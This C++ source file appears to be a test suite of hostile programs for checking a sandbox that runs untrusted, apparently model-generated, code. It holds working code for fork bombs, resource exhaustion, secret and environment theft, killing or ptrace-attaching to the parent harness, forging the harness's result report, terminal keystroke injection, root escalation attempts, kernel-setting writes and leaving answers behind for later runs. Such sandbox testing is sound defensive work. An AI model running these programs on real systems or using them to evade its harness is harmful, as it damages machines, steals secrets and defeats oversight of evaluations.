// Hostile programs, all in one: the first argument says which, the others are `given`. Each does the harm that
// its comment names where nothing holds it, and prints what it managed; "end" comes last.

#include <arpa/inet.h>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <dirent.h>
#include <fcntl.h>
#include <grp.h>
#include <map>
#include <netdb.h>
#include <netinet/in.h>
#include <pthread.h>
#include <sched.h>
#include <semaphore.h>
#include <string>
#include <sys/eventfd.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/reboot.h>
#include <sys/resource.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

using Run = void (*)(char** all, char** given);
static std::map<std::string, Run>& attacks() {
    static std::map<std::string, Run> known;
    return known;
}
#define ATTACK(name)                                                             \
    static void name##_attack(char** all, char** given);                         \
    static const bool name##_known = attacks().emplace(#name, name##_attack).second; \
    static void name##_attack([[maybe_unused]] char** all, [[maybe_unused]] char** given)

int main(int, char**);
static void tries(int how, std::string path) {
    int descriptor = open(path.c_str(), how | O_NONBLOCK | O_NOCTTY);
    if (descriptor >= 0) std::printf("opened %s\n", path.c_str());
    if (descriptor >= 0) close(descriptor);
}
static void tries_text(std::string path, const char* words) {
    char text[65536] = {};
    int descriptor = open(path.c_str(), O_RDONLY | O_NONBLOCK);
    long length = descriptor < 0 ? 0 : read(descriptor, text, sizeof text - 1);
    if (length > 0 && memmem(text, length, words, std::strlen(words))) std::printf("read %s\n", path.c_str());
    if (descriptor >= 0) close(descriptor);
}
static void overwrites(const char* path, const char* text) {
    int descriptor = open(path, O_WRONLY | O_NONBLOCK);
    if (descriptor >= 0 && write(descriptor, text, std::strlen(text)) > 0) std::printf("wrote %s\n", path);
}

// Leaves 400 sleeping processes behind.
ATTACK(fork_bomb) {
    int made = 0;
    for (int i = 0; i < 400; ++i) {
        pid_t pid = fork();
        if (pid == 0) { sleep(60); _exit(0); }
        made += pid > 0;
    }
    std::printf("%d\n", made);
}

// Starts 400 threads.
ATTACK(thread_bomb) {
    pthread_attr_t attributes;
    pthread_attr_init(&attributes);
    pthread_attr_setstacksize(&attributes, 65536);
    int made = 0;
    for (int i = 0; i < 400; ++i) {
        pthread_t thread;
        made += pthread_create(&thread, &attributes, [](void*) -> void* { return sleep(60), nullptr; }, nullptr) == 0;
    }
    std::printf("%d\nend\n", made);
    std::fflush(stdout);
    _exit(0);
}

// Takes 3 GiB of memory.
ATTACK(memory) {
    int mebibytes = 0;
    for (int i = 0; i < 96; ++i) {
        void* block = std::malloc(32 << 20);
        if (!block) break;
        std::memset(block, 1, 32 << 20);
        mebibytes += 32;
    }
    std::printf("%d\n", mebibytes);
}

// Six processes take 1.2 GiB together, each within its own limit.
ATTACK(shared_memory_greed) {
    for (int i = 0; i < 5; ++i) if (fork() == 0) break;
    void* block = std::malloc(200 << 20);
    if (block) std::memset(block, 1, 200 << 20);
    sleep(20);
}

// Gets around address-space limits: memory files, System V shared memory, anonymous descriptors.
ATTACK(memory_without_address_space) {
    if (memfd_create("m", 0) >= 0) std::puts("memory file");
    if (shmget(IPC_PRIVATE, 1 << 20, 0600 | IPC_CREAT) >= 0) std::puts("shared memory");
    if (syscall(447, 0) >= 0) std::puts("memfd_secret");
}

// Takes a core until somebody kills it.
ATTACK(endless_loop) {
    for (volatile int i = 0; true; i = i + 1) {}
}

// Never ends and takes no processor time, so that only a clock can end it.
ATTACK(endless_sleep) {
    while (true) sleep(60);
}

// Fills the memory of whoever collects its output, or the disk.
ATTACK(endless_output) {
    while (true) std::puts("the same line again and again, without any end");
}

// Prints secrets of this user: keys, passwords, other programs' environments.
ATTACK(read_secrets) {
    for (; *given; ++given) {
        char text[64] = {};
        if (FILE* file = std::fopen(*given, "r")) {
            if (std::fread(text, 1, sizeof text - 1, file) > 0) std::printf("read %s\n", *given);
            std::fclose(file);
        }
        if (DIR* folder = opendir(*given)) {
            if (readdir(folder)) std::printf("listed %s\n", *given);
            closedir(folder);
        }
    }
    for (char** entry = environ; *entry; ++entry)
        if (std::strstr(*entry, "SECRET")) std::printf("environment %s\n", *entry);
}

// Changes, creates and deletes this user's files.
ATTACK(write_outside) {
    for (; *given; ++given) {
        std::string folder = *given, victim = folder + "/victim";
        for (std::string path : {folder + "/planted", victim}) {
            int descriptor = open(path.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0666);
            if (descriptor >= 0 && write(descriptor, "x", 1) == 1) std::printf("wrote %s\n", path.c_str());
        }
        if (truncate(victim.c_str(), 0) == 0) std::printf("truncated %s\n", victim.c_str());
        if (chmod(victim.c_str(), 0) == 0) std::printf("changed the mode of %s\n", victim.c_str());
        if (rename(victim.c_str(), (folder + "/gone").c_str()) == 0) std::printf("moved %s\n", *given);
        if (unlink(victim.c_str()) == 0) std::printf("deleted %s\n", victim.c_str());
        if (mkdir((folder + "/made").c_str(), 0777) == 0) std::printf("made a folder in %s\n", *given);
        if (symlink("/etc", (folder + "/link").c_str()) == 0) std::printf("linked in %s\n", *given);
    }
}

// Sends what it found to somebody else.
ATTACK(network) {
    sockaddr_in address{};
    address.sin_family = AF_INET;
    address.sin_port = htons(std::atoi(given[0]));
    address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    int stream = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(stream, (sockaddr*)&address, sizeof address) == 0) std::printf("connected\n");
    int datagram = socket(AF_INET, SOCK_DGRAM, 0);
    if (sendto(datagram, "x", 1, 0, (sockaddr*)&address, sizeof address) == 1) std::printf("sent\n");
    int server = socket(AF_INET, SOCK_STREAM, 0);
    sockaddr_in any{};
    any.sin_family = AF_INET;
    if (bind(server, (sockaddr*)&any, sizeof any) == 0 && listen(server, 1) == 0) std::printf("listens\n");
    sockaddr_un name{};
    name.sun_family = AF_UNIX;
    std::strcpy(name.sun_path + 1, given[1]);
    int local = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(local, (sockaddr*)&name, sizeof(sa_family_t) + 1 + std::strlen(given[1])) == 0)
        std::printf("connected to the abstract socket\n");
    const int families[] = {AF_NETLINK, AF_PACKET, 38 /* AF_ALG */, 40 /* AF_VSOCK */};
    for (int family : families)
        if (socket(family, SOCK_RAW, 0) >= 0) std::printf("family %d\n", family);
}

// Kills the harness, this user's other programs, or everything it may.
ATTACK(killer) {
    for (; *given; ++given) {
        pid_t victim = std::atoi(*given);
        rlimit limit{0, 0};
        kill(victim, SIGKILL);
        kill(-victim, SIGKILL);
        sigqueue(victim, SIGKILL, {});
        syscall(SYS_tkill, victim, SIGKILL);
        syscall(SYS_tgkill, victim, victim, SIGKILL);
        int handle = syscall(434, victim, 0);  // pidfd_open
        if (handle >= 0) syscall(424, handle, SIGKILL, nullptr, 0);  // pidfd_send_signal
        if (prlimit(victim, RLIMIT_NOFILE, &limit, nullptr) == 0) std::printf("limited %d\n", victim);
        int ends[2];
        if (pipe(ends) == 0) {  // the kernel sends the signal
            fcntl(ends[0], F_SETOWN, victim);
            fcntl(ends[0], F_SETSIG, SIGKILL);
            fcntl(ends[0], F_SETFL, O_ASYNC);
            write(ends[1], "x", 1);
        }
    }
    kill(getppid(), SIGKILL);
    kill(getppid(), SIGSTOP);
    kill(-1, SIGKILL);
}

// Leaves a process behind that survives the end of its parent and of its session.
ATTACK(daemon) {
    for (int i = 0; i < 3; ++i) {
        if (fork() == 0) {
            setsid();
            setpgid(0, 0);
            if (fork() == 0) {
                for (int number = 1; number < 32; ++number) signal(number, SIG_IGN);
                while (true) usleep(10000);
            }
            _exit(0);
        }
    }
    usleep(50000);
}

// Fills the disk with large files, small files and folders.
ATTACK(fill_disk) {
    static char block[1 << 20];
    std::memset(block, 1, sizeof block);
    long written = 0;
    for (int file = 0; file < 64; ++file) {
        int descriptor = open(("large" + std::to_string(file)).c_str(), O_WRONLY | O_CREAT, 0600);
        for (int i = 0; i < 4; ++i) {
            ssize_t count = write(descriptor, block, sizeof block);
            if (count > 0) written += count;
        }
        close(descriptor);
        std::printf("%ld\n", written);
        std::fflush(stdout);
    }
    for (int i = 0; i < 100000; ++i) close(open(("small" + std::to_string(i)).c_str(), O_CREAT, 0600));
}

// Opens the doors that kernel exploits come through.
ATTACK(system_calls) {
    if (unshare(CLONE_NEWUSER) == 0) std::puts("unshare");
    if (syscall(SYS_clone, CLONE_NEWUSER | 17, 0, 0, 0, 0) >= 0) std::puts("clone");
    if (syscall(435, nullptr, 0) >= 0 || errno != ENOSYS) std::puts("clone3");
    if (mount("none", "/", "tmpfs", 0, "") == 0 || errno != EPERM) std::puts("mount");
    if (chroot(".") == 0) std::puts("chroot");
    if (ptrace(PTRACE_TRACEME, 0, nullptr, nullptr) == 0) std::puts("ptrace");
    if (syscall(SYS_bpf, 0, nullptr, 0) >= 0 || errno != EPERM) std::puts("bpf");
    if (syscall(SYS_perf_event_open, nullptr, 0, -1, -1, 0) >= 0 || errno != EPERM) std::puts("perf");
    if (syscall(425, 1, nullptr) >= 0 || errno != EPERM) std::puts("io_uring");
    if (syscall(SYS_userfaultfd, 0) >= 0 || errno != EPERM) std::puts("userfaultfd");
    if (syscall(SYS_keyctl, 0, -3, 1) >= 0 || errno != EPERM) std::puts("keyctl");
    if (syscall(SYS_open_by_handle_at, 0, nullptr, 0) >= 0 || errno != EPERM) std::puts("open_by_handle_at");
    if (setuid(0) == 0 || geteuid() == 0) std::puts("root");
    if (syscall(1000) >= 0 || errno != ENOSYS) std::puts("a call that is not known");
}

// Reads and writes what the harness has open.
ATTACK(descriptors) {
    for (int descriptor = 3; descriptor < 4096; ++descriptor)
        if (fcntl(descriptor, F_GETFD) >= 0) std::printf("%d is open\n", descriptor);
    int last = 2, next = 2;
    while ((next = open("/dev/null", O_RDONLY)) >= 0 && next < 4096) last = next;
    std::printf("last %d, stdin %d\n", last, getchar());
}

// Puts something else where the harness expects the compiled program.
ATTACK(false_output) {
    symlink(given[0], "symbolic");
    link(given[0], "hard");
    mkfifo("pipe", 0600);
    mkdir("folder", 0700);
    int huge = open("huge", O_WRONLY | O_CREAT, 0600);
    ftruncate(huge, 1 << 20);
}

// Leaves a core file.
ATTACK(crash) {
    std::abort();
}

// Leaves a tree of folders that cannot be deleted in the usual way.
ATTACK(deep_folders) {
    for (int i = 0; i < 3000; ++i) {
        mkdir("deep", i == 2999 ? 0 : 0700);
        if (chdir("deep") != 0) break;
    }
}

// Takes over its parent: stops it like a debugger, reads and writes its memory.
ATTACK(trace) {
    for (int victim : {getppid(), 1}) {
        char byte = 0;
        iovec here{&byte, 1}, there{(void*)main, 1};
        if (ptrace(PTRACE_ATTACH, victim, nullptr, nullptr) == 0) std::puts("attached");
        if (ptrace(PTRACE_SEIZE, victim, nullptr, nullptr) == 0) std::puts("seized");
        if (process_vm_readv(victim, &here, 1, &there, 1, 0) >= 0) std::puts("read memory");
        if (process_vm_writev(victim, &here, 1, &there, 1, 0) >= 0) std::puts("wrote memory");
        tries(O_RDWR, "/proc/" + std::to_string(victim) + "/mem");
        tries(O_RDONLY, "/proc/" + std::to_string(victim) + "/maps");
    }
}

// Writes into the pipe through which its parent reports how it ended: a failure looks like success.
ATTACK(forged_report) {
    for (int victim : {getppid(), 1})
        for (int number = 3; number < 40; ++number) {
            std::string path = "/proc/" + std::to_string(victim) + "/fd/" + std::to_string(number);
            int descriptor = open(path.c_str(), O_WRONLY | O_NONBLOCK);
            if (descriptor >= 0 && write(descriptor, "exit 0 0 0\n", 11) > 0) std::puts("forged");
        }
    std::puts("end");
    std::fflush(stdout);
    _exit(7);
}

// Ignores every signal that can be ignored, in all its processes: no polite request ends it.
ATTACK(ignored_signals) {
    sigset_t every;
    sigfillset(&every);
    for (int number = 1; number < 65; ++number) signal(number, SIG_IGN);
    sigprocmask(SIG_BLOCK, &every, nullptr);
    fork();
    fork();
    while (true) signal(SIGXCPU, SIG_IGN);
}

// Becomes a new program again and again: a watcher that looks for names or start times never finds it.
ATTACK(endless_exec) {
    execv(all[0], all);
}

// Prints a little for ever: a time limit that starts anew with each output never ends it.
ATTACK(trickle) {
    while (true) { write(1, ".", 1); usleep(5000); }
}

// Types commands into the terminal from which the harness was started.
ATTACK(terminal) {
    int terminal = open("/dev/tty", O_RDWR);
    for (int descriptor : {0, 1, 2, terminal}) {
        char key = '\n';
        if (ioctl(descriptor, TIOCSTI, &key) == 0) std::puts("typed");
        if (ioctl(descriptor, TIOCSCTTY, 1) == 0) std::puts("took the terminal");
        if (tcsetpgrp(descriptor, getpgrp()) == 0) std::puts("took the foreground");
    }
}

// Reads what the user types, or waits for it for ever.
ATTACK(standard_input) {
    char text[100];
    if (read(0, text, sizeof text) != 0) std::puts("read");
}

// Puts links in its folder, so that the harness or the next program reads and writes somewhere else.
ATTACK(symbolic_links) {
    const char* secret = given[0];
    symlink(secret, "link");
    tries(O_RDONLY, "link");
    tries(O_RDWR, "link");
    if (link(secret, "hard") == 0) tries(O_RDONLY, "hard");
    if (linkat(AT_FDCWD, "link", AT_FDCWD, "followed", AT_SYMLINK_FOLLOW) == 0) tries(O_RDONLY, "followed");
    if (rename("link", secret) == 0) std::puts("replaced");
    symlink("..", "up");
    tries(O_RDONLY, std::string("up/../../../../../../") + secret);
}

// Asks for core files without limit, fills its memory and crashes: gigabytes on the disk each time.
ATTACK(core) {
    rlimit any{RLIM_INFINITY, RLIM_INFINITY};
    if (setrlimit(RLIMIT_CORE, &any) == 0) std::puts("allowed");
    prctl(PR_SET_DUMPABLE, 1);
    void* block = std::malloc(100 << 20);
    if (block) std::memset(block, 1, 100 << 20);
    std::puts("end");
    std::fflush(stdout);
    std::abort();
}

// Lifts the limits that were set for it.
ATTACK(raised_limits) {
    for (int kind = 0; kind < RLIM_NLIMITS; ++kind) {
        rlimit now{}, more{};
        getrlimit((__rlimit_resource)kind, &now);
        more.rlim_cur = more.rlim_max = RLIM_INFINITY;
        if (now.rlim_max != RLIM_INFINITY && setrlimit((__rlimit_resource)kind, &more) == 0)
            std::printf("limit %d\n", kind);
    }
}

// Opens files in several processes until the whole machine has no descriptor left.
ATTACK(file_handles) {
    for (int i = 0; i < 3; ++i) fork();
    int opened = 0, ends[2];
    while (opened < 100000 && pipe(ends) == 0) opened += 2;
    while (opened < 100000 && open("/dev/null", O_RDONLY) >= 0) ++opened;
    while (opened < 100000 && eventfd(0, 0) >= 0) ++opened;
    if (opened > 64) std::printf("%d\n", opened);
}

// Changes the kernel's settings through /proc, or restarts the machine; reads the kernel's memory.
ATTACK(proc_tricks) {
    for (const char* path : {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/hostname",
                             "/proc/sysrq-trigger", "/proc/sys/vm/overcommit_memory", "/proc/1/oom_score_adj",
                             "/proc/1/mem", "/proc/self/uid_map", "/sys/kernel/uevent_helper"})
        overwrites(path, "0 0 1");
    overwrites("/proc/self/oom_score_adj", "-1000");
    for (const char* path : {"/proc/kcore", "/proc/kpagecount", "/proc/1/root/etc/passwd",
                             "/proc/1/cwd/etc/passwd", "/proc/self/root/etc/shadow", "/sys/kernel/debug"})
        tries(O_RDONLY, path);
}

// Reads the disks and the memory past all permissions of files; makes device files of its own.
ATTACK(devices) {
    for (const char* name : {"mem", "kmem", "port", "kmsg", "sda", "vda", "vdb", "nvme0n1", "dm-0", "loop0",
                             "loop-control", "fuse", "net/tun", "kvm", "tty0", "console", "rtc0", "watchdog",
                             "dri/card0", "input/event0", "vhost-net", "userfaultfd", "cpu/0/msr", "hpet"})
        tries(O_RDWR, std::string("/dev/") + name);
    for (int major : {1, 8, 253, 254, 259})
        if (mknod("device", S_IFBLK | 0600, makedev(major, 0)) == 0) tries(O_RDONLY, "device");
    if (mknod("memory", S_IFCHR | 0600, makedev(1, 1)) == 0) tries(O_RDONLY, "memory");
}

// Becomes root through programs that run as root, or makes such a program for later.
ATTACK(privileges) {
    for (const char* command : {"su -c id", "sudo -n id", "pkexec id", "newgrp root", "mount none /mnt"}) {
        std::system((std::string(command) + " </dev/null >made 2>/dev/null").c_str());
        tries_text("made", "uid=0");
    }
    if (setuid(0) == 0 || seteuid(0) == 0 || setgid(0) == 0) std::puts("root");
    if (setresuid(0, 0, 0) == 0 || setgroups(0, nullptr) == 0) std::puts("groups");
}

// Takes the processor before everybody else, for ever.
ATTACK(scheduling) {
    sched_param most{99};
    if (sched_setscheduler(0, SCHED_FIFO, &most) == 0) std::puts("real time");
    if (setpriority(PRIO_PROCESS, 0, -20) == 0 || nice(-10) != -1) std::puts("priority");
}

// Sets the clock, renames the machine, loads kernel modules, turns swap off, restarts.
ATTACK(machine) {
    timespec now{};
    clock_gettime(CLOCK_REALTIME, &now);
    if (clock_settime(CLOCK_REALTIME, &now) == 0) std::puts("clock");
    if (sethostname("mine", 4) == 0) std::puts("name");
    if (syscall(SYS_init_module, nullptr, 0, "") == 0 || errno != EPERM) std::puts("module");
    if (syscall(SYS_kexec_load, 0, 0, nullptr, 0) == 0) std::puts("kernel");
    if (swapoff("/swapfile") == 0) std::puts("swap");
    const int off = 0;  // of Ctrl-Alt-Del
    if (syscall(SYS_reboot, 0xfee1dead, 672274793, off, nullptr) == 0) std::puts("restart");
    if (syscall(SYS_syslog, 3, nullptr, 0) >= 0) std::puts("log");
}

// Leaves files and named objects where the next program finds them: a way to pass on an answer.
ATTACK(left_behind) {
    for (const char* path : {"/tmp/cpplm-left", "/var/tmp/cpplm-left", "/dev/shm/cpplm-left", "left"}) {
        tries(O_RDONLY, path);
        close(open(path, O_CREAT | O_WRONLY, 0666));
    }
    if (sem_open("/cpplm-left", 0) != SEM_FAILED) std::puts("semaphore");
    sem_open("/cpplm-left", O_CREAT, 0666, 1);
    if (shmget(0x77777, 4096, 0) >= 0) std::puts("shared memory");
    shmget(0x77777, 4096, IPC_CREAT | 0666);
    if (msgget(0x77777, 0) >= 0) std::puts("messages");
    msgget(0x77777, IPC_CREAT | 0666);
}

// Makes files of a terabyte: whatever copies or hashes them afterwards never ends.
ATTACK(huge_files) {
    signal(SIGXFSZ, SIG_IGN);
    int file = open("huge", O_CREAT | O_RDWR, 0600);
    if (ftruncate(file, 1L << 40) == 0) std::puts("sparse");
    if (posix_fallocate(file, 0, 1L << 36) == 0) std::puts("allocated");
    if (lseek(file, 1L << 40, SEEK_SET) > 0 && write(file, "x", 1) == 1) std::puts("written");
}

// Reads the passwords that other programs got through their environments or command lines.
ATTACK(other_environments) {
    if (DIR* folder = opendir("/proc"))
        while (dirent* entry = readdir(folder))
            for (const char* kind : {"/environ", "/cmdline"})
                tries_text(std::string("/proc/") + entry->d_name + kind, "CPPLM_TEST_SECRET");
}

// Calls the kernel by the numbers of another processor, which a filter of numbers does not expect.
ATTACK(foreign_calls) {
#ifdef __x86_64__
    if (syscall(0x40000000 + 41 /* socket, x32 */, 2, 1, 0) >= 0) std::puts("x32");
    int result;
    asm volatile("int $0x80" : "=a"(result) : "a"(359 /* socket, i386 */), "b"(2), "c"(1), "d"(0) : "memory");
    if (result >= 0) std::puts("i386");
#endif
}

// Listens for connections from outside, and looks for other machines.
ATTACK(broadcast) {
    for (int family : {AF_INET, AF_INET6, AF_UNIX})
        for (int kind : {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW})
            if (socket(family, kind, 0) >= 0) std::puts("socket");
    int ends[2];
    addrinfo* found = nullptr;
    if (getaddrinfo("localhost", "80", nullptr, &found) == 0 && socket(found->ai_family, SOCK_STREAM, 0) >= 0)
        std::puts("looked up");
    if (syscall(SYS_accept, 0, nullptr, nullptr) >= 0) std::puts("accepted");
}

int main(int, char** all) {
    attacks().at(all[1])(all, all + 2);
    std::puts("end");
}
